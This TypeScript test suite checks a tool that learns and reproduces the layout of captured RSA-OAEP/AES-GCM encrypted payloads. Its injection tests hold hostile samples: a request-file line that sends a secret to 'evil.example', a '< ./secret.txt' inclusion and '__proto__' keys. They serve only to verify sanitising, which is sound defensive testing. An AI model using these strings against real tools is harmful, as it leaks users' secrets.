import { strict as assert } from "node:assert";
import * as crypto from "node:crypto";
import { CompactEncrypt, FlattenedEncrypt } from "jose";
import * as v from "valibot";
import { parseAppFile, serialiseAppFile } from "../../../src/domain/apps/storage/appFile";
import { UserError } from "../../../src/domain/errors";
import { decrypt } from "../../../src/domain/payloads/decrypt/decrypt";
import { openEnvelope } from "../../../src/domain/payloads/open/openEnvelope";
import type { DecryptReport } from "../../../src/domain/payloads/open/decryptResult";
import { encrypt } from "../../../src/domain/payloads/write/encrypt";
import { EnvelopeProfile, type HybridProfile } from "../../../src/domain/payloads/envelopeProfile";
import { withShape } from "../../../src/domain/payloads/learn/withShape";
import { nodePayloadPorts } from "../../../src/node/nodePayloadPorts";
import { sampleApp } from "../apps/sampleApp";
import { makeBytes, plainShape } from "./envelopeMaker";
import { testKey } from "./testKeys";
import { findEnvelopes } from "./foundAtOnce";

type Role = "key" | "iv" | "tag" | "data";
type Written = Record<Role, unknown>;

const CAPTURED = JSON.stringify({ sessions: [{ user: "someone@example.com", note: "what the platform sent" }] });
const SENT = JSON.stringify({ skip: 0, limit: 10, about: "what is sent" });

/** How bytes are written, straight from the definitions, and read again. */
const ENCODINGS: Readonly<
  Record<string, { readonly write: (bytes: Buffer) => unknown; readonly read: (written: unknown) => Buffer }>
> = {
  base64: { write: (bytes) => bytes.toString("base64"), read: fromBase64 },
  "base64 without padding": { write: (bytes) => bytes.toString("base64").replace(/=/g, ""), read: fromBase64 },
  base64url: { write: (bytes) => bytes.toString("base64url"), read: fromBase64 },
  "base64url with padding": {
    write: (bytes) => bytes.toString("base64").replace(/\+/g, "-").replace(/\//g, "_"),
    read: fromBase64,
  },
  "base64 in lines of 64": { write: (bytes) => inLines(bytes.toString("base64"), 64, "\n"), read: fromBase64 },
  "base64 in lines of 76, as MIME has it": {
    write: (bytes) => `${inLines(bytes.toString("base64"), 76, "\r\n")}\r\n`,
    read: fromBase64,
  },
  hex: { write: (bytes) => bytes.toString("hex"), read: fromHex },
  "hex in capitals": { write: (bytes) => bytes.toString("hex").toUpperCase(), read: fromHex },
  "hex with 0x": { write: (bytes) => `0x${bytes.toString("hex")}`, read: fromHex },
  "hex in pairs": { write: (bytes) => inLines(bytes.toString("hex"), 2, ":"), read: fromHex },
  bytes: { write: (bytes) => [...bytes], read: (written) => Buffer.from(written as number[]) },
  "bytes with signs": {
    write: (bytes) => [...new Int8Array(bytes)],
    read: (written) => Buffer.from(written as number[]),
  },
  "Node's buffers": {
    write: (bytes) => bytes.toJSON(),
    read: (written) => Buffer.from((written as { data: number[] }).data),
  },
};

/** Nesting and order, with a place for neighbours; the text of JSON, so that order is what stands there. */
const NESTINGS: Readonly<Record<string, (part: Record<Role, string>, beside: string) => string>> = {
  flat: ({ key, iv, tag, data }, beside) => `{"encryptedKey":${key},"iv":${iv},"tag":${tag},"data":${data}${beside}}`,
  "inside data, the ciphertext first": ({ key, iv, tag, data }, beside) =>
    `{"data":{"cipher":${data},"k":${key}${beside},"iv":${iv},"t":${tag}}}`,
  "deep, with neighbours outside": ({ key, iv, tag, data }, beside) =>
    `{"a":{"b":{"c":{"d":{"t":${tag},"i":${iv},"p":${data},"ek":${key}}}}}${beside}}`,
  "in two objects": ({ key, iv, tag, data }, beside) =>
    `{"meta":{"iv":${iv},"wrapped":${key}${beside}},"payload":{"content":${data},"tag":${tag}}}`,
  "a list": ({ key, iv, tag, data }) => `[${iv},${key},${tag},${data}]`,
  "in an element of a list": ({ key, iv, tag, data }, beside) =>
    `{"envelopes":[{"data":${data},"key":${key},"tag":${tag},"iv":${iv}${beside}}]}`,
  "names that are numbers, the larger first": ({ key, iv, tag, data }, beside) =>
    `{"30":${key},"20":${iv},"10":{"9":${tag},"1":${data}}${beside}}`,
  "names with quotes, dots and brackets": ({ key, iv, tag, data }, beside) =>
    `{"a.b":{"\\"k\\"":${key},"i[0]":${iv},"t}":${tag},"d,":${data}}${beside}}`,
  "JSON in a string": ({ key, iv, tag, data }, beside) =>
    `{"body":${JSON.stringify(`{"d":${data},"k":${key},"iv":${iv},"t":${tag}${beside}}`)},"encoding":"json"}`,
  "JSON in a string in a string": ({ key, iv, tag, data }, beside) =>
    `{"type":"event","outer":${JSON.stringify(`{"inner":${JSON.stringify(`{"k":${key},"d":${data},"t":${tag},"iv":${iv}}`)}${beside}}`)}}`,
  "JSON in base64": ({ key, iv, tag, data }, beside) =>
    `{"payload":"${Buffer.from(`{"k":${key},"d":${data}${beside},"t":${tag},"iv":${iv}}`).toString("base64")}"}`,
  "all of it a string": ({ key, iv, tag, data }, beside) =>
    JSON.stringify(`{"result":{"k":${key},"d":${data},"t":${tag},"iv":${iv}${beside}}}`),
};

/** What describes the encryption: all of it is kept, and as it was written. */
const NEIGHBOURS: Readonly<Record<string, string>> = {
  none: "",
  "an algorithm": ',"alg":"AES-256-GCM"',
  "a version as number": ',"v":1',
  "a version as text, and one with a zero": ',"version":"1","v":1.0',
  "an object of its own":
    ',"encryption":{"keyAlg":"RSA-OAEP-256","encAlg":"A256GCM","keySize":256,"compressed":false,"extra":null,"list":[]}',
};

describe("a learned shape", () => {
  const orders = testKey("Orders bot");
  const publicKeyPem = String(orders.publicKey.export({ type: "spki", format: "pem" }));
  const learned = async (text: string): Promise<DecryptReport> =>
    (await decrypt(text, [orders.keys], nodePayloadPorts)).report;
  const written = async (profile: EnvelopeProfile | undefined): Promise<string> => {
    assert.ok(profile);
    // As it comes out of a file.
    const kept = v.parse(EnvelopeProfile, JSON.parse(JSON.stringify(profile)));
    return (await encrypt(Uint8Array.from(Buffer.from(SENT)), { publicKeyPem, profile: kept }, nodePayloadPorts)).body;
  };

  let [combination, tried] = [0, 0];
  for (const [nesting, nest] of Object.entries(NESTINGS)) {
    it(`is written again as it was: ${nesting}`, async () => {
      for (const [encoding, { write, read }] of Object.entries(ENCODINGS)) {
        for (const [neighbours, beside] of Object.entries(NEIGHBOURS)) {
          // Each nesting with each encoding and with each neighbour, and of all three every third.
          if (encoding !== "base64" && neighbours !== "none" && ++combination % 3 !== 0) continue;
          tried++;
          const where = `${nesting}, ${encoding}, ${neighbours}`;
          const parts = sealed();
          const captured = nest(asJson(parts, write), beside);
          const { profile, shape } = await learned(captured);
          assert.deepEqual(shape?.notKept, [], where);
          const body = await written(profile);
          const found: Partial<Written> = {};
          compare(
            captured,
            body,
            new Map(Object.entries(asJson(parts, write)).map(([role, json]) => [json, role as Role])),
            found,
            where,
          );
          for (const [role, value] of Object.entries(found))
            assert.deepEqual(write(read(value)), value, `${where}: ${role}`);
          assert.equal(opened(found, read), SENT, where);
          const again = await decrypt(body, [{ ...orders.keys, ...(profile ? { profile } : {}) }], nodePayloadPorts);
          assert.deepEqual([again.kind === "text" && again.text, again.report.foundBy], [SENT, "profile"], where);
        }
      }
    });
  }

  it("was tried with more than a hundred of them", () => {
    assert.equal(tried, 396);
  });

  it("keeps forms, with the order and the constants of their fields", async () => {
    const parts = sealed();
    const field = (role: Role) => encodeURIComponent(parts[role].toString("base64"));
    const captured = `v=2&d=${field("data")}&alg=RSA-OAEP&k=${field("key")}&t=${field("tag")}&i=${field("iv")}&time=1700000000`;
    const { profile, shape } = await learned(captured);
    assert.equal(shape?.outline, "v=2&d=…&alg=RSA-OAEP&k=…&t=…&i=…");
    const fields = [...new URLSearchParams(await written(profile))];
    assert.deepEqual(
      fields.map(([name]) => name),
      ["v", "d", "alg", "k", "t", "i"],
    );
    const values = Object.fromEntries(fields);
    assert.deepEqual([values["v"], values["alg"]], ["2", "RSA-OAEP"]);
    assert.equal(opened({ data: values["d"], key: values["k"], tag: values["t"], iv: values["i"] }, fromBase64), SENT);
  });

  it("keeps what stands before and between parts of one text", async () => {
    const parts = sealed();
    const [key, iv, data, tag] = (["key", "iv", "data", "tag"] as const).map((role) => parts[role].toString("base64"));
    const { profile, shape } = await learned(
      JSON.stringify({ alg: "RSA-OAEP-256", enc: `v1.${key}.${iv}.${data}.${tag}` }),
    );
    assert.equal(shape?.outline, "{alg: RSA-OAEP-256, enc: v1.….….….…}");
    const { alg, enc } = JSON.parse(await written(profile)) as Record<string, string>;
    const pieces = String(enc).split(".");
    assert.deepEqual([alg, pieces[0], pieces.length], ["RSA-OAEP-256", "v1", 5]);
    assert.equal(opened({ key: pieces[1], iv: pieces[2], data: pieces[3], tag: pieces[4] }, fromBase64), SENT);
  });

  it("keeps JWEs where they stand, and what their header says of the key", async () => {
    const compact = await new CompactEncrypt(Buffer.from(CAPTURED))
      .setProtectedHeader({ typ: "JWE", kid: "payload-key-1", alg: "RSA-OAEP-256", enc: "A256GCM", iat: 1_700_000_000 })
      .encrypt(orders.publicKey);
    const flat = await new FlattenedEncrypt(Buffer.from(CAPTURED))
      .setProtectedHeader({ enc: "A128GCM", alg: "RSA-OAEP" })
      .encrypt(orders.publicKey);
    const { profile, shape } = await learned(JSON.stringify({ v: 1, data: { jwe: compact, requestId: "r-1" } }));
    assert.equal(shape?.outline, "{v: 1, data: {jwe: …}}");
    assert.deepEqual(
      shape.notKept.map(({ args }) => args[0]),
      ["“data.requestId”", "“iat”"],
    );
    const body = JSON.parse(await written(profile)) as { v: number; data: { jwe: string } };
    assert.deepEqual([body.v, Object.keys(body.data)], [1, ["jwe"]]);
    const header = Buffer.from(String(body.data.jwe.split(".")[0]), "base64url").toString();
    assert.equal(header, '{"typ":"JWE","kid":"payload-key-1","alg":"RSA-OAEP-256","enc":"A256GCM"}');

    const { tag, ciphertext, iv, encrypted_key: key, protected: head } = flat;
    const list = await learned(
      JSON.stringify({
        "content-type": "application/jose+json",
        list: [{ tag, ciphertext, iv, encrypted_key: key, protected: head }],
      }),
    );
    assert.equal(
      list.shape?.outline,
      "{content-type: application/jose+json, list: [{tag: …, ciphertext: …, iv: …, encrypted_key: …, protected: …}]}",
    );
    const text = await written(list.profile);
    assert.deepEqual(Object.keys((JSON.parse(text) as { list: object[] }).list[0] ?? {}), [
      "tag",
      "ciphertext",
      "iv",
      "encrypted_key",
      "protected",
    ]);
    const again = await decrypt(text, [orders.keys], nodePayloadPorts);
    assert.equal(again.kind === "text" && again.text, SENT);
  });

  describe("leaves out what belongs to one payload, and says so before it is kept", () => {
    const flat = (beside: string, front = "") => {
      const { key, iv, tag, data } = asJson(sealed(), (bytes) => bytes.toString("base64"));
      return `{${front}"data":{"k":${key},"iv":${iv},"t":${tag},"d":${data}}${beside}}`;
    };
    const secret = crypto.randomBytes(24).toString("base64");
    const cases: readonly (readonly [what: string, beside: string, left: readonly string[]])[] = [
      [
        "times",
        ',"timestamp":1700000000,"at":"2024-01-15T10:00:00Z","type":"2024-01-15T10:00:00Z","v":1700000000123',
        ["timestamp", "at", "type", "v"],
      ],
      [
        "ids",
        `,"requestId":"req-1","id":7,"type":"${crypto.randomUUID()}","traceId":"ab","userId":17`,
        ["requestId", "id", "type", "traceId", "userId"],
      ],
      [
        "sessions, tokens and secrets",
        `,"session":"abc","token":"x","clientSecret":"y","enc":"${secret}","mode":"${secret}"`,
        ["session", "token", "clientSecret", "enc", "mode"],
      ],
      [
        "people and what they wrote",
        ',"name":"Jane","email":"jane@example.com","text":"Hello there","count":3,"status":"ok"',
        ["name", "email", "text", "count", "status"],
      ],
      ["what request files would fill in", ',"alg":"{{$processEnv SECRET}}","type":"{{x}}"', ["alg", "type"]],
      ["lists and objects of them", ',"rows":[{"id":1},{"id":2}],"user":{"name":"Jane"}', ["rows", "user"]],
    ];
    for (const [what, beside, left] of cases) {
      it(what, async () => {
        const { profile, shape } = await learned(flat(beside));
        assert.equal(shape?.outline, "{data: {k: …, iv: …, t: …, d: …}}");
        assert.deepEqual(shape.notKept, [
          {
            template: "Fields that may belong to this one payload are left out: {0}.",
            args: [left.map((name) => `“${name}”`).join(", ")],
          },
        ]);
        const kept = JSON.stringify(profile);
        for (const value of beside.match(/(?<=:")[^"]{4,}(?=")/g) ?? []) assert.ok(!kept.includes(value), value);
        assert.deepEqual(Object.keys(JSON.parse(await written(profile)) as object), ["data"]);
      });
    }

    it("but an object of both keeps what describes the encryption, and another envelope nothing", async () => {
      const other = flat("").slice(0, -1).replace("}", ',"alg":"AES-256-GCM"}}');
      const { shape } = await learned(flat(`,"meta":{"alg":"AES-256-GCM","time":"10:00:00"},"other":${other}`));
      assert.equal(shape?.outline, "{data: {k: …, iv: …, t: …, d: …}, meta: {alg: AES-256-GCM}}");
      assert.deepEqual(
        shape.notKept.map(({ args }) => args[0]),
        ["“meta.time”, “other”"],
      );
    });

    it("and a list keeps the places of its parts", async () => {
      const { key, iv, tag, data } = asJson(sealed(), (bytes) => bytes.toString("base64"));
      const { profile, shape } = await learned(
        `["v1","${crypto.randomUUID()}",${key},${iv},${tag},${data},1700000000]`,
      );
      assert.equal(shape?.outline, "[v1, null, …, …, …, …]");
      assert.deepEqual(
        shape.notKept.map(({ template }) => template),
        [
          "Fields that may belong to this one payload are left out: {0}.",
          "Written as null, since they may belong to this one payload: {0}.",
        ],
      );
      const list = JSON.parse(await written(profile)) as unknown[];
      assert.deepEqual([list.length, list[0], list[1]], [6, "v1", null]);
    });

    it("and says what it can't keep at all", async () => {
      const { key, iv, tag, data } = asJson(sealed(), (bytes) => bytes.toString("base64"));
      const text = (json: string) => json.slice(1, -1);
      const xml = await learned(
        `<e>\n<k>${text(key)}</k>\n<iv>${text(iv)}</iv>\n<t>${text(tag)}</t>\n<d>${text(data)}</d>\n</e>`,
      );
      assert.deepEqual(
        xml.shape?.notKept.map(({ template }) => template),
        ["What stands around the parts is not kept: it is neither JSON nor a form that can be written anew."],
      );
      assert.equal(xml.shape.outline, "k=…&iv=…&t=…&d=…");
      const many = Array.from({ length: 500 }, (_, index) => `"x${index}":null`).join(",");
      const large = await learned(flat("", `${many},`));
      assert.deepEqual(
        large.shape?.notKept.map(({ template }) => template),
        ["What stands around the parts is not kept: it is too large."],
      );
      const pem = await learned(
        flat("").replace(/"d":"([^"]+)"/, (_, body: string) => `"d":"-----BEGIN X-----\\n${body}\\n-----END X-----"`),
      );
      assert.deepEqual(pem.shape?.notKept, [
        { template: "How these are encoded is kept in part only: {0}.", args: ["“data.d”"] },
      ]);
    });
  });

  it("takes no hyphen of what frames a part for one of base64's own", async () => {
    const frame = (bytes: Buffer) => `-----BEGIN KEY-----\n${bytes.toString("base64")}\n-----END KEY-----`;
    const ivs: string[] = [];
    for (let count = 0; count < 5; count++) {
      const { key, iv, tag, data } = sealed();
      const text = (bytes: Buffer) => bytes.toString("base64");
      const { profile, shape } = await learned(
        JSON.stringify({ k: frame(key), iv: text(iv), t: text(tag), d: text(data) }),
      );
      assert.deepEqual(
        shape?.notKept.map(({ args }) => args[0]),
        ["“k”"],
      );
      assert.deepEqual(shape.inferred, []);
      for (let again = 0; again < 20; again++) {
        const body = JSON.parse(await written(profile)) as Record<string, string>;
        assert.equal(opened({ key: body["k"], iv: body["iv"], tag: body["t"], data: body["d"] }, fromBase64), SENT);
        ivs.push(...["k", "iv", "t", "d"].map((name) => String(body[name])));
      }
    }
    assert.match(ivs.join(), /[+/]/);
    assert.doesNotMatch(ivs.join(), /[-_]/);
  });

  it("says of parts that don't show their alphabet from which it is taken", async () => {
    const url = (bytes: Buffer) => bytes.toString("base64url");
    const telling = (bytes: Buffer) => /[-_]/.test(url(bytes));
    // By chance an IV of 12 bytes shows it or doesn't.
    const shown = new Set<boolean>();
    while (shown.size < 2) {
      const { key, iv, tag, data } = sealed();
      if (!telling(key)) continue;
      shown.add(telling(iv));
      const { profile, shape } = await learned(JSON.stringify({ k: url(key), iv: url(iv), t: url(tag), d: url(data) }));
      const said = shape?.inferred.filter(({ args }) => String(args[0]).includes("“iv”"));
      const expected = {
        template: "How these are encoded doesn't show, so they are written as “{1}” is: {0}.",
        args: ["“iv”", "k"],
      };
      assert.deepEqual(said, telling(iv) ? [] : [expected]);
      const pieces = profile?.body?.pieces ?? [];
      assert.deepEqual(
        pieces.flatMap((piece) => ("part" in piece && piece.part === "iv" ? [piece.style?.alphabet] : [])),
        ["url"],
      );
    }
  });

  it("says what is written into headers, and how far", async () => {
    const text = (bytes: Buffer) => bytes.toString("base64");
    const { key, iv, tag, data } = sealed();
    const response = (written: string) =>
      `HTTP/1.1 200 OK\nx-enc-key: ${written}\nx-enc-iv: ${text(iv)}\ncontent-type: application/json\n\n${JSON.stringify({ t: text(tag), d: text(data) })}`;
    const { profile, shape } = await learned(response(text(key)));
    assert.deepEqual([shape?.outline, shape?.notKept], ["{t: …, d: …}", []]);
    assert.deepEqual(shape?.headers, [
      { template: "Into the header “{0}” goes the wrapped key.", args: ["x-enc-key"] },
      { template: "Into the header “{0}” goes the initialisation vector.", args: ["x-enc-iv"] },
    ]);
    assert.ok(profile);
    const sent = await encrypt(Uint8Array.from(Buffer.from(SENT)), { publicKeyPem, profile }, nodePayloadPorts);
    assert.deepEqual(
      sent.headers.map(({ name }) => name),
      ["x-enc-key", "x-enc-iv"],
    );
    // Standard base64 without its padding can't be said of a header.
    const unpadded = await learned(response(text(key).replace(/=+$/, "")));
    assert.deepEqual(unpadded.shape?.notKept, [
      { template: "How these are encoded is kept in part only: {0}.", args: ["“x-enc-key”"] },
    ]);
  });

  it("keeps additional authenticated data that is no data of one payload", async () => {
    const aad = "AES-256-GCM";
    const {
      key = Buffer.alloc(0),
      iv = Buffer.alloc(0),
      tag = Buffer.alloc(0),
      data,
    } = makeBytes(CAPTURED, plainShape, orders.publicKey, orders.sharedKey, aad);
    const text = (bytes: Buffer) => bytes.toString("base64");
    const { profile, shape } = await learned(
      JSON.stringify({ aad, k: text(key), iv: text(iv), t: text(tag), d: text(data) }),
    );
    assert.equal(shape?.outline, "{aad: AES-256-GCM, k: …, iv: …, t: …, d: …}");
    const body = JSON.parse(await written(profile)) as Record<string, string>;
    assert.equal(body["aad"], aad);
    assert.equal(opened({ key: body["k"], iv: body["iv"], tag: body["t"], data: body["d"] }, fromBase64, aad), SENT);
  });

  it("is that of the whole document where only the envelope was selected, and of the selection where that is a document", async () => {
    const { key, iv, tag, data } = asJson(sealed(), (bytes) => bytes.toString("base64"));
    const inner = `{"cipher":${data},"k":${key},"iv":${iv},"t":${tag}}`;
    const text = `INFO [7] {"a":1}\nINFO response={"data":${inner},"v":1} took 12 ms`;
    const start = text.indexOf(inner);
    const [envelope] = findEnvelopes(text, { selection: { start, end: start + inner.length } });
    assert.ok(envelope);
    const result = await openEnvelope(envelope, [orders.keys], nodePayloadPorts, text);
    assert.equal(
      (await withShape(result, text, nodePayloadPorts)).report.shape?.outline,
      "{data: {cipher: …, k: …, iv: …, t: …}, v: 1}",
    );
    assert.equal(
      (await withShape(result, text, nodePayloadPorts, start)).report.shape?.outline,
      "{cipher: …, k: …, iv: …, t: …}",
    );
  });

  describe("of several payloads in one text, is that of one", () => {
    const parts = () => asJson(sealed(), (bytes) => bytes.toString("base64"));
    const flat = () => {
      const { key, iv, tag, data } = parts();
      return `{"k":${key},"iv":${iv},"t":${tag},"d":${data}}`;
    };
    const inner = "{k: …, iv: …, t: …, d: …}";
    const cases: Readonly<Record<string, readonly [text: () => string, outline: string]>> = {
      "an element of a list": [() => `{"results":[${flat()},${flat()},${flat()}],"total":3}`, inner],
      "with what the element has around it": [
        () => `{"results":[{"response":{"data":${flat()}},"v":1},${flat()}]}`,
        `{response: {data: ${inner}}, v: 1}`,
      ],
      "a member of an object, that is called like its ciphertext": [() => `{"d":${flat()},"e":${flat()}}`, inner],
      "a line of JSON Lines": [() => `{"body":${flat()}}\n{"body":${flat()}}`, `{body: ${inner}}`],
      "a string in an element": [
        () => `{"results":[{"body":${JSON.stringify(flat())}},{"body":${JSON.stringify(flat())}}]}`,
        `{body: “${inner}”}`,
      ],
      "of a list of one, with the list": [() => `{"results":[${flat()}]}`, `{results: [${inner}]}`],
    };
    for (const [name, [text, outline]] of Object.entries(cases)) {
      it(name, async () => {
        const { profile, shape } = await learned(text());
        assert.deepEqual([shape?.outline, shape?.notKept], [outline, []]);
        // What is written in it is read by it.
        const again = await decrypt(
          await written(profile),
          [{ ...orders.keys, ...(profile ? { profile } : {}) }],
          nodePayloadPorts,
        );
        assert.deepEqual([again.kind === "text" && again.text, again.report.foundBy], [SENT, "profile"]);
      });
    }

    it("and where several stand in one string, says what it doesn't keep", async () => {
      const { shape } = await learned(`{"v":1,"body":${JSON.stringify(`[${flat()},${flat()}]`)}}`);
      assert.deepEqual(shape?.notKept, [
        { template: "What stands around the parts is not kept: other payloads stand in it as well.", args: [] },
      ]);
    });
  });

  describe("in a file", () => {
    const captured = () => {
      const { key, iv, tag, data } = asJson(sealed(), (bytes) => bytes.toString("base64"));
      return `{"__proto__":{"constructor":{"toString":${data},"k":${key}}},"iv":${iv},"t":${tag},"hasOwnProperty":{"alg":"none"}}`;
    };
    const withBody = async (pieces: unknown): Promise<HybridProfile> => {
      const { profile } = await learned(captured());
      return { ...(profile as HybridProfile), body: { pieces } as never };
    };

    it("is as it was, however deep, and names mean nothing to who reads it", async () => {
      const { profile } = await learned(captured());
      const app = { ...sampleApp(), ...(profile ? { envelopeProfile: profile } : {}) };
      const entry = parseAppFile(app.id, serialiseAppFile(app).text);
      assert.deepEqual(entry.status === "ok" && entry.app.envelopeProfile, profile);
      const body = await written(profile);
      assert.match(
        body,
        /^\{"__proto__":\{"constructor":\{"toString":"[^"]+","k":"[^"]+"\}\},"iv":"[^"]+","t":"[^"]+","hasOwnProperty":\{"alg":"none"\}\}$/,
      );
      assert.equal(({} as Record<string, unknown>)["constructor"], Object);

      const { key, iv, tag, data } = asJson(sealed(), (bytes) => bytes.toString("base64"));
      const deep = `${'{"a":['.repeat(70)}{"k":${key},"d":${data},"iv":${iv},"t":${tag}}${"]}".repeat(70)}`;
      const nested = (await learned(deep)).profile;
      const deepApp = { ...sampleApp(), ...(nested ? { envelopeProfile: nested } : {}) };
      assert.equal(parseAppFile(deepApp.id, serialiseAppFile(deepApp).text).status, "ok");
      assert.equal((await written(nested)).replace(/"[^"]{16,}"/g, "#"), deep.replace(/"[^"]{16,}"/g, "#"));
    });

    it("behaves as before without the new fields", async () => {
      const { profile } = await learned(captured());
      assert.ok(profile);
      const { body: _, ...old } = profile;
      const text = await written(old);
      assert.deepEqual(Object.keys(JSON.parse(text) as object).sort(), ["__proto__", "iv", "t"]);
      const again = await decrypt(text, [{ ...orders.keys, profile: old }], nodePayloadPorts);
      assert.deepEqual([again.kind === "text" && again.text, again.report.foundBy], [SENT, "profile"]);
    });

    it("is refused where it is larger than any that is learned", async () => {
      const part = { name: "k", part: "encryptedKey" };
      for (const pieces of [
        Array.from({ length: 401 }, () => ({ value: null })),
        [{ ...part, name: "x".repeat(301) }],
        [{ name: "v", value: "x".repeat(101) }],
        [{ name: "v", number: '1,"x":{{a}}' }],
        [{ name: "v", number: "1e" }],
        [{ ...part, part: "constructor" }],
        [{ open: "script" }],
        [{ ...part, style: { group: { size: 1, separator: ":" } } }],
        [{ ...part, style: { group: { size: 4, separator: "\n###\n" } } }],
      ]) {
        assert.equal(
          v.safeParse(EnvelopeProfile, await withBody(pieces)).success,
          false,
          JSON.stringify(pieces).slice(0, 60),
        );
      }
    });

    it("is not written where its pieces are none of a whole, or lack a part", async () => {
      const good = (await learned(captured())).profile?.body?.pieces ?? [];
      for (const pieces of [
        [],
        good.slice(1),
        good.slice(0, -1),
        [...good, ...good],
        good.filter((piece) => !("part" in piece && piece.part === "iv")),
        [{ close: true }, ...good],
        [{ open: "json" }, { close: true }],
      ]) {
        await assert.rejects(
          written(await withBody(pieces)),
          (error) => error instanceof UserError && error.code === "profile-unusable",
        );
      }
    });

    it("writes one line that clients of request files take as it is, whoever made the file", async () => {
      const [key, iv, tag, data] = ["encryptedKey", "iv", "tag", "ciphertext"].map((part) => ({ name: part, part }));
      const evil = "\n\n###\nGET https://evil.example/?{{$processEnv SECRET}}";
      for (const pieces of [
        [
          { open: "object" },
          { ...key, name: evil },
          iv,
          tag,
          data,
          { name: "alg", value: `{{{x}}}${evil.slice(0, 50)}` },
          { close: true },
        ],
        [
          { open: "form" },
          { ...key, name: evil },
          iv,
          tag,
          data,
          { name: "v\ud800", value: "\ud800{{x}}" },
          { close: true },
        ],
        [
          { open: "object" },
          { name: "x", open: "json" },
          { open: "object" },
          { ...key, name: "{{x}}" },
          iv,
          tag,
          data,
          { close: true },
          { close: true },
          { close: true },
        ],
      ]) {
        const body = await written(await withBody(pieces));
        assert.doesNotMatch(body, /[\r\n]|\{\{/);
      }
      const bare = (value: string) => [
        { open: "text" },
        { value },
        ...[key, iv, tag, data].flatMap((piece) => [{ part: piece?.part }, { value: "." }]),
        { close: true },
      ];
      assert.ok(await written(await withBody(bare("v1."))));
      for (const value of [evil, "< ./secret.txt", "@import x", "# comment", "{{x}}", "a\n@x = 1"]) {
        await assert.rejects(
          written(await withBody(bare(value))),
          (error) => error instanceof UserError && error.code === "profile-unusable",
          value,
        );
      }
      const { profile } = await learned(captured());
      const old = profile as HybridProfile;
      const named = (source: "header" | "text") => ({
        ...old,
        body: undefined,
        parts: { ...old.parts, iv: { source, path: [evil], encoding: "base64" as const } },
      });
      await assert.rejects(
        written(named("header")),
        (error) => error instanceof UserError && error.code === "profile-unusable",
      );
      assert.doesNotMatch(await written(named("text")), /\n|\{\{/);
    });
  });

  /** The parts of an envelope of what was captured, by node:crypto. */
  function sealed(): Record<Role, Buffer> {
    const { key, iv, tag, data } = makeBytes(CAPTURED, plainShape, orders.publicKey, orders.sharedKey);
    assert.ok(key && iv && tag);
    return { key, iv, tag, data };
  }

  function opened(parts: Partial<Written>, read: (written: unknown) => Buffer, aad?: string): string {
    const privateKey = orders.keys.privateKeyPem ?? "";
    const key = crypto.privateDecrypt(
      { key: privateKey, padding: crypto.constants.RSA_PKCS1_OAEP_PADDING, oaepHash: "sha256" },
      read(parts.key),
    );
    const decipher = crypto.createDecipheriv("aes-256-gcm", key, read(parts.iv));
    if (aad !== undefined) decipher.setAAD(Buffer.from(aad));
    decipher.setAuthTag(read(parts.tag));
    return Buffer.concat([decipher.update(read(parts.data)), decipher.final()]).toString();
  }
});

function asJson(parts: Record<Role, Buffer>, write: (bytes: Buffer) => unknown): Record<Role, string> {
  const { key, iv, tag, data } = parts;
  return {
    key: JSON.stringify(write(key)),
    iv: JSON.stringify(write(iv)),
    tag: JSON.stringify(write(tag)),
    data: JSON.stringify(write(data)),
  };
}

/**
 * Whether two texts of JSON are the same token by token, but for the parts, which are gathered. Order, duplicate names
 * and the digits of numbers count; strings that hold JSON are looked into.
 */
function compare(
  before: string,
  after: string,
  parts: ReadonlyMap<string, Role>,
  found: Partial<Written>,
  where: string,
): void {
  // What was written as a list or an object becomes one token.
  const [old = [], now = []] = [before, after].map((text): string[] => text.match(TOKENS) ?? []);
  assert.equal(now.length, old.length, `${where}: ${after.slice(0, 300)}`);
  for (const [index, token] of old.entries()) {
    const other: string = now[index] ?? "";
    const role = parts.get(token);
    if (role) found[role] = JSON.parse(other);
    else if (token !== other && token.startsWith('"')) {
      const [was, is] = [JSON.parse(token) as string, JSON.parse(other) as string];
      const isBase64 = !/^\s*["{[]/.test(was);
      const text = (value: string) => (isBase64 ? Buffer.from(value, "base64").toString() : value);
      compare(text(was), text(is), parts, found, where);
    } else assert.equal(other, token, where);
  }
}

/** Strings, lists of numbers, Node's buffers, marks, and all else. */
const TOKENS =
  /"(?:[^"\\]|\\.)*"(?=\s*:)|\{"type":"Buffer","data":\[[\d,]*\]\}|\[-?\d[-\d,]*\]|"(?:[^"\\]|\\.)*"|[{}[\]:,]|[^\s{}[\]:,"]+/g;

function inLines(text: string, width: number, separator: string): string {
  return (text.match(new RegExp(`.{1,${width}}`, "g")) ?? []).join(separator);
}

function fromBase64(written: unknown): Buffer {
  return Buffer.from(String(written), "base64");
}

function fromHex(written: unknown): Buffer {
  return Buffer.from(String(written).replace(/^0x|:/g, ""), "hex");
}
